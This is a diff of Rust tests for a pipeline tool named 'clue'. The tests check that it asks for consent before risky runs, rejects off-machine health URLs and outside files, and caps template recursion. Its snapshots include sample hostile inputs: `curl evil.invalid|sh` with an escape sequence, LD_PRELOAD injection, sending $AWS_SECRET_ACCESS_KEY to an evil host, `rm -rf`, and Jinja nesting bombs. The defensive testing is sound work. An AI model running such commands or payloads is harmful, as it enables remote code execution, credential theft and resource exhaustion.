@@ -62,25 +62,27 @@ outputs:
     ]);
     insta::assert_snapshot!(refused(&project, "run p.yaml", 3), @r"
     this run needs your consent, because it would
-      send  prompts to `evil.invalid`   (model `far`)
+      send  prompts to `https://evil.invalid`   (model `far`)
               with the content of $AWS_SECRET_ACCESS_KEY
       run   ./setup.sh   (set-up of model `own`)
               with LD_PRELOAD=./x.so
               file ./setup.sh, 481053dfee9a
       run   sh -c 'curl evil.invalid|sh \u{1b}[2K'   (server of model `own`)
               with LD_PRELOAD=./x.so
+              file setup.sh, 481053dfee9a
       run   rm -rf {dir}   (stage `b`)
     allow it with `clue trust p.yaml`, or for this run with `--yes`
     ");
     insta::assert_snapshot!(refused(&project, "models check p.yaml", 3), @r"
     this check needs your consent, because it would
-      send  prompts to `evil.invalid`   (model `far`)
+      send  prompts to `https://evil.invalid`   (model `far`)
               with the content of $AWS_SECRET_ACCESS_KEY
       run   ./setup.sh   (set-up of model `own`)
               with LD_PRELOAD=./x.so
               file ./setup.sh, 481053dfee9a
       run   sh -c 'curl evil.invalid|sh \u{1b}[2K'   (server of model `own`)
               with LD_PRELOAD=./x.so
+              file setup.sh, 481053dfee9a
     allow it with `clue trust p.yaml`, or for this check with `--yes`
     ");
     assert!(!project.path("was_run").exists());
@@ -112,6 +114,109 @@ fn paths_that_climb_or_are_linked_are_not_read() {
     project.write("in/p.yaml", text);
     assert_eq!(project.clue("run in/p.yaml").code, 3);
     project.ok("run in/p.yaml -p notes=secret.csv");
+}
+
+#[test]
+fn a_pipeline_in_a_home_reads_nothing_else_of_it() {
+    let project = pipeline("  a: {load: {path: diary.jsonl}}", "a");
+    project.write("in/diary.jsonl", "{\"x\": \"SECRET\"}\n");
+    project.write("in/.git/HEAD", "");
+    project.write("in/ask.j2", "SECRET");
+    let run = |words: &str| {
+        let mut command = project.command(words);
+        command.env("HOME", project.path("in"));
+        let told = done(command.output().expect("runs"));
+        let root = project.path("").canonicalize().expect("there");
+        let root = root.to_str().expect("UTF-8").trim_end_matches('/');
+        (told.code, told.stderr.replace(root, "ROOT"))
+    };
+    let (code, told) = run("run in/p.yaml --out out");
+    assert_eq!(code, 3);
+    insta::assert_snapshot!(told, @"
+    this run needs your consent, because it would
+      read  ROOT/in/diary.jsonl   (stage `a`)
+    allow it with `clue trust in/p.yaml`, or for this run with `--yes`
+    ");
+    let (code, told) = run("run in/p.yaml --out out --yes");
+    assert_eq!(code, 0, "{told}");
+    // Text is not shown at all.
+    let text = String::from_utf8(project.read("in/p.yaml")).expect("UTF-8");
+    let text = text.replace(
+        "{load: {path: diary.jsonl}}",
+        "{load: {path: diary.jsonl}}\n  b: {from: a, generate: {model: m, prompt: ask.j2}}",
+    );
+    let model = "models: {m: {id: m, url: \"http://127.0.0.1:1/v1\"}}\n";
+    project.write("in/p.yaml", format!("{text}{model}"));
+    let (code, told) = run("check in/p.yaml");
+    assert_eq!(code, 2);
+    insta::assert_snapshot!(told, @r#"
+    error: `in/ask.j2` is outside of the pipeline's project
+     --> in/p.yaml:5:45
+      |
+    5 |   b: {from: a, generate: {model: m, prompt: ask.j2}}
+      |                                             ^^^^^^
+      |
+      = note: the pipeline has none: its folder is a home, or shared by all users
+      = note: the file is `ROOT/in/ask.j2`
+      = help: put the pipeline and its files into a folder of their own
+    "#);
+}
+
+#[test]
+fn servers_of_a_pipeline_are_asked_on_this_machine_alone() {
+    let told = |model: &str| {
+        let text = format!("clue: 1\nmodels:\n  m: {{id: m, {model}}}\nstages: {{}}\n");
+        let project = Project::new(&[("in/p.yaml", &text)]);
+        refused(&project, "check in/p.yaml", 2)
+    };
+    let all = [
+        "url: \"http://127.0.0.1.{port}.evil.invalid/v1\", serve: {command: [x]}",
+        "url: \"http://{port}/v1\", serve: {command: [x]}",
+        "serve: {command: [x], health: //evil.invalid/}",
+        "serve: {command: [x], health: \"/\\\\evil.invalid/\"}",
+        "serve: {command: [x], health: \"http://evil.invalid/\"}",
+    ];
+    insta::assert_snapshot!(all.map(told).join(""), @r#"
+    error: `{port}` can only be the port of `url`
+     --> in/p.yaml:3:19
+      |
+    3 |   m: {id: m, url: "http://127.0.0.1.{port}.evil.invalid/v1", serve: {command: [x]}}
+      |                   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
+      |
+      = help: e.g. `url: http://127.0.0.1:{port}/v1`
+
+    error: `{port}` can only be the port of `url`
+     --> in/p.yaml:3:19
+      |
+    3 |   m: {id: m, url: "http://{port}/v1", serve: {command: [x]}}
+      |                   ^^^^^^^^^^^^^^^^^^
+      |
+      = help: e.g. `url: http://127.0.0.1:{port}/v1`
+
+    error: `health` must begin with `/`
+     --> in/p.yaml:3:44
+      |
+    3 |   m: {id: m, serve: {command: [x], health: //evil.invalid/}}
+      |                                            ^^^^^^^^^^^^^^^
+      |
+      = help: it is a path on the server, e.g. `/health`
+
+    error: `health` must begin with `/`
+     --> in/p.yaml:3:44
+      |
+    3 |   m: {id: m, serve: {command: [x], health: "/\\evil.invalid/"}}
+      |                                            ^^^^^^^^^^^^^^^^^^
+      |
+      = help: it is a path on the server, e.g. `/health`
+
+    error: `health` must begin with `/`
+     --> in/p.yaml:3:44
+      |
+    3 |   m: {id: m, serve: {command: [x], health: "http://evil.invalid/"}}
+      |                                            ^^^^^^^^^^^^^^^^^^^^^^
+      |
+      = help: it is a path on the server, e.g. `/health`
+    "#);
 }
 
 #[test]
@@ -343,6 +448,12 @@ fn a_slow_pattern_is_fast_enough() {
 #[test]
 fn bombs_in_prompts_are_put_out() {
     let double = "{% set ns = namespace(x=['a']) %}{% for i in range(60) %}{% set ns.x = [ns.x, ns.x] %}{% endfor %}";
+    // Whoever drops this value, or compares it, goes down ninety thousand levels.
+    let deep = |rounds: usize, then: &str| {
+        format!(
+            "{{% set ns = namespace(x=[]) %}}{{% for i in range({rounds}) %}}{{% set ns.x = [[[[[[[[[[ns.x]]]]]]]]]] %}}{{% endfor %}}{then}"
+        )
+    };
     let why = |prompt: &str| {
         let project = pipeline(
             "  a: {load: {path: n.jsonl}}\n  b: {from: a, generate: {model: m, prompt: ask.j2}}",
@@ -360,6 +471,9 @@ fn bombs_in_prompts_are_put_out() {
         "{% macro m() %}{{ m() }}{{ m() }}{% endmacro %}{{ m() }}".to_owned(),
         format!("{double}{{{{ ns.x }}}}"),
         format!("{double}{{{{ ns.x | tojson }}}}"),
+        deep(9000, ""),
+        deep(4000, "{{ ns.x == [ns.x] }}"),
+        deep(100_000, ""),
     ]
     .iter()
     .map(|prompt| why(prompt))
@@ -370,6 +484,9 @@ fn bombs_in_prompts_are_put_out() {
     in/ask.j2:1: invalid operation: recursion limit exceeded
     in/ask.j2:1: invalid operation: the value is too large: more than 64 MB, or lists within lists more than 100 deep
     in/ask.j2:1: invalid operation: the value is too large: more than 64 MB, or lists within lists more than 100 deep
+    in/ask.j2: a user turn is empty
+    no connection to `127.0.0.1:1`
+    in/ask.j2:1: engine ran out of fuel
     ");
     let project = pipeline(
         "  a: {load: {path: n.jsonl}}\n  b: {from: a, generate: {model: m, prompt: ask.j2}}",
@@ -380,6 +497,13 @@ fn bombs_in_prompts_are_put_out() {
         "in/p.yaml",
         format!("{text}models: {{m: {{id: m, url: \"http://127.0.0.1:1/v1\"}}}}\n"),
     );
+    let model = format!(
+        "models: {{m: {{id: m, api: completions, url: \"http://127.0.0.1:1/v1\", chat_template: {{inline: {:?}}}}}}}\n",
+        deep(9000, "{{ messages[0].content }}")
+    );
+    project.write("in/q.yaml", format!("{text}{model}"));
+    project.write("in/ask.j2", "x");
+    project.ok("check in/q.yaml");
     project.write("in/ask.j2", "{% include 'ask.j2' %}");
     insta::assert_snapshot!(refused(&project, "check in/p.yaml", 2), @"
     error: prompts include each other: `in/ask.j2` → `in/ask.j2`
@@ -480,7 +604,8 @@ fn a_proxy_is_shown_and_then_used() {
     assert_eq!(told.code, 3);
     insta::assert_snapshot!(told.stderr, @"
     this run needs your consent, because it would
-      send  prompts to `far.invalid`   (model `m`)
+      send  prompts to `http://far.invalid`   (model `m`)
+              not encrypted: whoever is on the way can read all of it
               through the proxy `127.0.0.1`
     allow it with `clue trust in/p.yaml`, or for this run with `--yes`
     ");
